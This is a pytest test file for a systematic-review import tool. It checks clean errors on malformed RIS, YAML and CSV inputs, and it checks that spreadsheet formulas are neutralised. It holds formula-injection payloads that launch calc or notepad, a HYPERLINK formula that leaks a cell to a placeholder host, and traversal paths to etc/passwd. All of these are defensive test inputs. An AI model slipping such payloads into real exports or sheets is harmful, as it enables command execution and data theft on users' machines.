"""Hostile input (issue 7): every malformed file gives a clear error naming the file and line,
or is handled safely; never a traceback, never a partial output left behind.

Files come from tests/hostile/ (hand-written); the 10 MB field is generated here.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from reviewflow import cli, files
from reviewflow.errors import ReviewflowError

HOSTILE = Path(__file__).parent / "hostile"
SEARCH_LOG = "data/raw/searches.yaml"
OUT = "data/processed/records/records.csv"
REPORT = "data/processed/records/import_report.json"

ONE_SEARCH = """\
searches:
  - id: scopus
    source: Scopus
    kind: database
    date: 2019-02-14
    query: personal budget*
    file: exports/{file}
    hits: {hits}
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty project folder as the working directory, so messages show relative paths."""
    root = tmp_path / "project"
    (root / "data" / "raw" / "exports").mkdir(parents=True)
    monkeypatch.chdir(root)
    return root


def add_export(root: Path, name: str, data: bytes | None = None, hits: int = 0) -> None:
    """Put an export (from the corpus unless ``data`` given) behind a one-search log."""
    target = root / "data" / "raw" / "exports" / name
    target.write_bytes(data if data is not None else (HOSTILE / name).read_bytes())
    log = ONE_SEARCH.format(file=name, hits=hits)
    (root / SEARCH_LOG).write_text(log, encoding="utf-8")


def use_search_log(root: Path, name: str) -> None:
    shutil.copy(HOSTILE / name, root / SEARCH_LOG)
    shutil.copy(HOSTILE / "seed.ris", root / "data" / "raw" / "exports" / "seed.ris")


def run_import(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture) -> tuple[int, str]:
    """The real CLI entry point; (exit code, stderr)."""
    code = cli.main(["import", "--search-log", SEARCH_LOG, "--out", OUT, "--report", REPORT])
    return code, capsys.readouterr().err


def assert_failed_cleanly(code: int, err: str, *patterns: str) -> None:
    """Exit 1, one `reviewflow: error:` line matching every pattern, and no output at all."""
    assert code == 1, err
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if line.startswith("reviewflow: error: ")]
    assert len(errors) == 1, err
    for pattern in patterns:
        assert re.search(pattern, errors[0]), f"{pattern!r} not in {errors[0]!r}"
    processed = Path("data/processed")
    left = sorted(p.as_posix() for p in processed.rglob("*") if p.is_file())
    assert left == [], f"partial output left behind: {left}"


def records() -> list[dict[str, str]]:
    return files.read_csv(OUT).to_dict("records")


# --- export files ----------------------------------------------------------------------------


def test_empty_file(project: Path, monkeypatch, capsys) -> None:
    add_export(project, "empty.ris", hits=0)
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(
        code, err, r"exports/empty\.ris: file is empty: expected exported records"
    )


def test_binary_file(project: Path, monkeypatch, capsys) -> None:
    add_export(project, "binary.ris", hits=1)
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(
        code,
        err,
        r"exports/binary\.ris: binary file \(contains NUL bytes\): expected a text export",
    )


def test_truncated_record(project: Path, monkeypatch, capsys) -> None:
    add_export(project, "truncated.ris", hits=2)
    code, err = run_import(monkeypatch, capsys)
    # The second record starts on line 8 and the file ends inside it.
    assert_failed_cleanly(
        code,
        err,
        r"exports/truncated\.ris:\d+",
        r"record starting on line 8",
        r"truncated",
        r"ER  - ",
    )


def test_wrong_encoding_is_read_as_cp1252_with_a_warning(
    project: Path, monkeypatch, capsys, caplog
):
    add_export(project, "cp1252.ris", hits=1)
    code, err = run_import(monkeypatch, capsys)
    assert code == 0, err
    warning = r"exports/cp1252\.ris: not valid UTF-8 \(first bad byte on line 2\).*Windows-1252"
    assert re.search(warning, caplog.text), caplog.text
    (search,) = json.loads(Path(REPORT).read_text(encoding="utf-8"))["searches"]
    assert search["encoding"] == "Windows-1252"
    assert any("not valid UTF-8" in w for w in search["warnings"])
    (rec,) = records()
    assert rec["title"] == "\u201cCaf\u00e9 society\u201d and personal budgets \u2013 a case study"
    assert rec["authors"] == "Fran\u00e7ois, Ren\u00e9e"


def test_ten_megabyte_single_field_is_kept_whole(project: Path, monkeypatch, capsys) -> None:
    words = "personalisation budgets inequality carers " * 250_000  # 10.75 MB, one line
    ris = f"TY  - JOUR\nTI  - A very long abstract\nPY  - 2019\nAB  - {words.strip()}\nER  - \n"
    add_export(project, "huge.ris", ris.encode(), hits=1)
    code, err = run_import(monkeypatch, capsys)
    assert code == 0, err
    (rec,) = records()
    assert len(rec["abstract"]) == len(words.strip()) >= 10_000_000
    assert rec["title"] == "A very long abstract"


def test_formula_titles_are_kept_verbatim_in_data_tables(project: Path, monkeypatch, capsys):
    """Data tables keep text as written; only sheets for people neutralise formulas."""
    add_export(project, "injection.ris", hits=4)
    code, err = run_import(monkeypatch, capsys)
    assert code == 0, err
    titles = [r["title"] for r in records()]
    assert titles == [
        "=cmd|' /C calc'!A0",
        '+HYPERLINK("http://example.invalid/?leak="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!A0",
    ]


def test_missing_export_file(project: Path, monkeypatch, capsys) -> None:
    add_export(project, "seed.ris", hits=2)
    (project / "data" / "raw" / "exports" / "seed.ris").unlink()
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(code, err, r"searches\.yaml:\d+: .*'exports/seed\.ris' not found")


# --- the search log --------------------------------------------------------------------------


def test_duplicate_search_ids(project: Path, monkeypatch, capsys) -> None:
    use_search_log(project, "searches_duplicate_ids.yaml")
    code, err = run_import(monkeypatch, capsys)
    # The second `id: scopus` entry starts on line 9.
    assert_failed_cleanly(
        code, err, r"searches\.yaml:9\b", r"duplicate id 'scopus' \(first on line 2\)"
    )


@pytest.mark.parametrize("name", ["searches_traversal.yaml", "searches_absolute.yaml"])
def test_path_outside_raw_folder(project: Path, monkeypatch, capsys, name: str) -> None:
    use_search_log(project, name)
    code, err = run_import(monkeypatch, capsys)
    # The entry starts on line 2, its `file:` is on line 7: either names the place.
    # The message must not leak the target's content.
    assert_failed_cleanly(
        code,
        err,
        r"searches\.yaml:(2|7)\b",
        r"`file` must be a path relative to data/raw that stays inside it, found '[./]*etc/passwd'",
    )
    assert "root:" not in err


def test_hits_not_a_number(project: Path, monkeypatch, capsys) -> None:
    use_search_log(project, "searches_hits_many.yaml")
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(
        code, err, r"searches\.yaml:(2|8)\b", r"`hits` must be a whole number >= 0, found 'many'"
    )


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("file", "[exports/a.ris, {x: 1}]", "`file` must be text or a list of text, found dict"),
        ("file", "2019", "`file` must be text or a list of text, found int 2019"),
        ("hits", "12.5", "`hits` must be a whole number >= 0, found 12.5"),
        ("hits", "-3", "`hits` must be a whole number >= 0, found -3"),
        ("hits", "true", "`hits` must be a whole number >= 0, found True"),
        ("date", "last tuesday", "`date` must be a date YYYY-MM-DD, found 'last tuesday'"),
        ("source", "{name: Scopus}", "`source` must be text, found dict"),
    ],
)
def test_search_log_field_of_wrong_type(
    project: Path, monkeypatch, capsys, field: str, value: str, message: str
) -> None:
    add_export(project, "seed.ris", hits=2)
    log = (project / SEARCH_LOG).read_text(encoding="utf-8")
    log = re.sub(rf"^    {field}: .*$", f"    {field}: {value}", log, flags=re.M)
    (project / SEARCH_LOG).write_text(log, encoding="utf-8")
    line = 1 + log.splitlines().index(f"    {field}: {value}")
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(code, err, rf"searches\.yaml:(2|{line})\b", re.escape(message))


def test_searches_is_a_string(project: Path, monkeypatch, capsys) -> None:
    use_search_log(project, "searches_string.yaml")
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(
        code, err, r"searches\.yaml:1: ", r"expected a top-level `searches:` list"
    )


def test_search_log_not_a_mapping(project: Path, monkeypatch, capsys) -> None:
    use_search_log(project, "searches_not_a_mapping.yaml")
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(
        code, err, r"searches\.yaml:1: ", r"expected a top-level `searches:` list"
    )


@pytest.mark.parametrize(
    ("content", "pattern"),
    [
        (b"", r":1: expected a top-level `searches:` list"),
        (b"searches:\n  - id: scopus\n    query: caf\xe9\n", r":3: not UTF-8 text"),
        (b"\x00\x01\x02binary\xff", r":1: not UTF-8 text"),
        (b"searches:\n  - id: [unclosed\n", r":3: invalid YAML: expected ','"),
    ],
    ids=["empty", "cp1252", "binary", "bad-yaml"],
)
def test_unreadable_search_log(project: Path, monkeypatch, capsys, content, pattern) -> None:
    (project / SEARCH_LOG).write_bytes(content)
    code, err = run_import(monkeypatch, capsys)
    assert_failed_cleanly(code, err, r"searches\.yaml", pattern)


def test_no_traceback_from_the_installed_command(project: Path) -> None:
    """The real `python -m reviewflow` process prints one error line and exits 1."""
    use_search_log(project, "searches_traversal.yaml")
    proc = subprocess.run(
        [sys.executable, "-m", "reviewflow", "import", "--search-log", SEARCH_LOG,
         "--out", OUT, "--report", REPORT],
        capture_output=True,
        text=True,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1].startswith("reviewflow: error: data/raw/searches")
    assert not Path(OUT).exists() and not Path(REPORT).exists()


def test_duplicate_record_ids_in_records_table(project: Path, monkeypatch, capsys) -> None:
    """A hand-edited records.csv with a repeated record id stops deduplication."""
    add_export(project, "seed.ris", hits=2)
    code, err = run_import(monkeypatch, capsys)
    assert code == 0, err
    table = files.read_csv(OUT)
    records_path = Path("edited/records.csv")
    files.write_csv(table.iloc[[0, 1, 0]], records_path)
    code = cli.main(["dedup", "--records", str(records_path), "--out-dir", "dedup_out"])
    err = capsys.readouterr().err
    assert code == 1 and "Traceback" not in err
    assert "reviewflow: error: edited/records.csv:4 (record scopus:1): duplicate record_id" in err
    assert not Path("dedup_out").exists() or not any(Path("dedup_out").iterdir())


# --- shared helpers every stage uses -----------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "pattern"),
    [
        (b"", r"not a readable CSV table"),
        (b"id,decision\nscopus:1,include\n\xff\xfe\x00\x00", r"not a readable CSV table"),
        (b'id,decision\n"scopus:1,include\n', r"not a readable CSV table"),
    ],
    ids=["empty", "binary", "unclosed-quote"],
)
def test_read_csv_hostile(tmp_path: Path, content: bytes, pattern: str) -> None:
    path = tmp_path / "decisions.csv"
    path.write_bytes(content)
    with pytest.raises(ReviewflowError, match=pattern) as err:
        files.read_csv(path)
    assert err.value.path == str(path)


def test_read_csv_ten_megabyte_field(tmp_path: Path) -> None:
    """pandas' C parser has no field-size limit (the csv module's is 128 KiB)."""
    note = "x" * 10_000_000
    path = tmp_path / "decisions.csv"
    path.write_text(f"id,note\nscopus:1,{note}\n", encoding="utf-8")
    assert files.read_csv(path)["note"].tolist() == [note]


@pytest.mark.parametrize(
    ("content", "pattern", "line"),
    [
        (b"a: [1, 2\nb: 3\n", r"invalid YAML", 2),
        (b"a: caf\xe9\n", r": not UTF-8 text", 1),
        (b"a: 1\n\x00\n", r": invalid YAML: unacceptable character", 2),
    ],
    ids=["syntax", "cp1252", "binary"],
)
def test_read_yaml_hostile(tmp_path: Path, content: bytes, pattern: str, line) -> None:
    path = tmp_path / "searches.yaml"
    path.write_bytes(content)
    with pytest.raises(ReviewflowError, match=pattern) as err:
        files.read_yaml(path)
    assert err.value.path == str(path)
    assert err.value.line == line
    assert "\n" not in err.value.message  # one line on the terminal


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('+HYPERLINK("x")', '\'+HYPERLINK("x")'),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("Personal budgets", "Personal budgets"),
        ("", ""),
    ],
)
def test_neutralise_formula(title: str, cell: str) -> None:
    assert files.neutralise_formula(title) == cell


# --- human-facing screening sheets -----------------------------------------------------------


def test_screening_sheet_neutralises_formulas(project: Path, monkeypatch, capsys) -> None:
    """Titles that a spreadsheet would execute are neutralised in the XLSX and CSV sheets."""
    openpyxl = pytest.importorskip("openpyxl")
    add_export(project, "injection.ris", hits=4)
    code, err = run_import(monkeypatch, capsys)
    assert code == 0, err
    # Every record its own study, as deduplication would leave four distinct titles.
    table = files.read_csv(OUT)
    titles = table["title"].tolist()
    processed = Path("data/processed/dedup")
    links = table[["record_id"]].assign(study_id=table["record_id"], rule="self", score="")
    files.write_csv(links, processed / "links.csv")
    studies = table.assign(study_id=table["record_id"], n_records="1")
    files.write_csv(studies.assign(record_ids=table["record_id"]), processed / "studies.csv")
    Path("config.yaml").write_text(
        "screening: {format: native, exclusion_reasons: []}\n", encoding="utf-8"
    )
    argv = ["screening-sheet", "--stage", "title_abstract", "--links", str(processed / "links.csv")]
    argv += ["--studies", str(processed / "studies.csv"), "--config", "config.yaml"]
    code = cli.main([*argv, "--out-dir", "sheets"])
    assert code == 0, capsys.readouterr().err

    sheet = files.read_csv("sheets/screening_sheet_title_abstract.csv")
    assert sorted(sheet["title"]) == sorted("'" + t for t in titles)
    wb = openpyxl.load_workbook("sheets/screening_sheet_title_abstract.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=cmd|' /C calc'!A0" in texts
    assert "'-2+3+cmd|' /C notepad'!A0" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    assert all(c.data_type != "f" for c in cells)  # no cell stored as a formula


def test_report_is_valid_json_when_import_succeeds(project: Path, monkeypatch, capsys) -> None:
    add_export(project, "seed.ris", hits=2)
    code, err = run_import(monkeypatch, capsys)
    assert code == 0, err
    assert json.loads(Path(REPORT).read_text(encoding="utf-8"))
    assert [r["record_id"] for r in records()] == ["scopus:1", "scopus:2"]
